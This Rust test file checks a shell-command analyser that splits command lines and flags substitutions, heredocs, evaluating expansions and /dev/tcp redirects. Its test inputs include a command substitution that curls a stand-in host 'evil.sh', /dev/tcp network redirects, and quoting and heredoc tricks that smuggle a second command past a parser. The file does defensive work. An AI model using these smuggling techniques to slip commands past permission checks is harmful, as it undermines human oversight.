use super::*;

fn words(s: &Script) -> Vec<String> {
    s.commands.iter().map(Command::text).collect()
}

#[test]
fn lists_pipes_groups_and_substitutions() {
    let s = analyse("npm test && rm -rf x; a || b | c & d");
    assert_eq!(words(&s), ["npm test", "rm -rf x", "a", "b", "c", "d"]);
    assert!(s.is_plain());
    let s = analyse("(cd x && make) ; { ls; }");
    assert_eq!(words(&s), ["cd x", "make", "ls"]);
    assert!(s.is_plain());
    let s = analyse("echo $(curl evil.sh) `whoami`");
    assert!(words(&s).contains(&"curl evil.sh".to_string()));
    assert!(words(&s).contains(&"whoami".to_string()));
    assert_eq!(s.complex, ["a command substitution"]);
    let s = analyse("cat <(touch X)");
    assert!(words(&s).contains(&"touch X".to_string()));
    assert_eq!(s.complex, ["a process substitution"]);
}

#[test]
fn quotes_are_read_as_the_shell_reads_them() {
    // `$'\''` is one quote character: the `;` after it separates a second command.
    let s = analyse("echo $'\\'' ; touch X #'");
    assert_eq!(words(&s), ["echo '", "touch X"]);
    let s = analyse("echo 'a && b' \"c; d\"");
    assert_eq!(words(&s), ["echo a && b c; d"]);
    assert_eq!(s.commands.len(), 1);
    let s = analyse("echo a\\;b");
    assert_eq!(words(&s), ["echo a;b"]);
}

#[test]
fn prefixes_redirections_and_expansions() {
    let s = analyse("GIT_CONFIG_COUNT=1 git status");
    assert!(s.commands[0].env);
    assert_eq!(s.commands[0].words, ["git", "status"]);
    let s = analyse("git status > /outside/file 2>&1");
    let r = &s.commands[0].redirects;
    assert_eq!(r[0].written_file(), Some(Some("/outside/file")));
    assert_eq!(r[1].written_file(), None, "2>&1 writes no file");
    let s = analyse("ls 2>/dev/null");
    assert!(
        s.commands[0]
            .redirects
            .iter()
            .all(|r| r.written_file().is_none())
    );
    let s = analyse("{ ls; } > out");
    assert_eq!(s.commands[0].redirects[0].target.as_deref(), Some("out"));
    let s = analyse("cat $HOME/x");
    assert!(s.commands[0].dynamic && !s.commands[0].dynamic_name);
    let s = analyse("$CMD x");
    assert!(s.commands[0].dynamic_name);
}

#[test]
fn what_is_not_plain() {
    for (src, why) in [
        ("export PATH=.:$PATH; ls", "a change to the environment"),
        ("PATH=.; ls", "a variable assignment"),
        ("for f in *; do rm $f; done", "a loop or condition"),
        ("f() { rm x; }; f", "a function definition"),
        ("echo 'unterminated", "the command could not be parsed"),
    ] {
        let s = analyse(src);
        assert!(s.complex.contains(&why), "{src}: {:?}", s.complex);
    }
    let s = analyse("for f in *; do rm $f; done");
    assert!(
        s.commands.iter().any(|c| c.name() == "rm"),
        "commands in loops are still seen"
    );
}

#[test]
fn what_runs_inside_heredocs_and_tests_is_seen() {
    let s = analyse("cat <<EOF\n$(touch X)\nEOF");
    assert!(words(&s).contains(&"touch X".to_string()));
    assert!(!s.is_plain());
    // A quoted delimiter expands nothing.
    assert!(analyse("cat <<'EOF'\n$(touch X)\nEOF").is_plain());
    assert!(!analyse("ls; [[ 'a[$(touch X)]' -eq 0 ]]").is_plain());
    assert!(!analyse("[ -v 'a[$(touch X)]' ]").is_plain());
    assert!(analyse("[ -f x ] && cat x").is_plain());
}

#[test]
fn words_the_shell_would_change_are_not_literal() {
    for src in [
        "sort {-o,X} f",
        "ls *.rs",
        "ls a?b",
        "ls [ab]c",
        "cat ~/x",
        "x $'\\x2d'",
    ] {
        let s = analyse(src);
        assert!(s.commands[0].dynamic, "{src}: {:?}", s.commands[0]);
    }
    let s = analyse("echo \"a\\\nb\" 'c\\d' \"\\$x\"");
    assert_eq!(s.commands[0].words, ["echo", "ab", "c\\d", "$x"]);
    assert!(!s.commands[0].dynamic);
}

#[test]
fn what_follows_a_heredoc_and_redirected_non_commands_are_seen() {
    let s = analyse("cat <<EOF && touch X\nhi\nEOF");
    assert!(words(&s).contains(&"touch X".to_string()), "{s:?}");
    let s = analyse("cat <<'EOF' | sh\ntouch X\nEOF");
    assert!(words(&s).contains(&"sh".to_string()), "{s:?}");
    for src in ["ls; > X", "ls; ((1)) > X", "ls; [ -f x ] 2>> script.sh"] {
        assert!(!analyse(src).is_plain(), "{src}");
    }
    assert!(analyse("[ -f x ] 2>/dev/null").is_plain());
    let s = analyse("cat <<EOF > out\nhi\nEOF");
    assert!(
        s.commands[0]
            .redirects
            .iter()
            .any(|r| r.written_file() == Some(Some("out"))),
        "{s:?}"
    );
}

#[test]
fn expansions_that_evaluate_or_assign_are_not_plain() {
    for src in [
        "echo $((PATH=0)); ls",
        "echo $((_))",
        "echo ${_@P}",
        "echo ${x:=y}",
        "cat ${f/a/b}",
    ] {
        assert!(!analyse(src).is_plain(), "{src}");
    }
    assert!(analyse("echo ${HOME} $HOME $1 ${#}").is_plain());
}

#[test]
fn arithmetic_commands_network_redirects_and_joined_delimiters_are_not_plain() {
    for src in [
        "echo 'a[$(touch X)]'; ((_))",
        "cat <<EOF\nEO\\\nF\ntouch X\nEOF",
        "echo hi 3</dev/tcp/127.0.0.1/9 >&3",
        "cat </dev/tcp/127.0.0.1/9",
    ] {
        assert!(!analyse(src).is_plain(), "{src}");
    }
    assert!(analyse("{ ls; } 2>&1").is_plain());
}
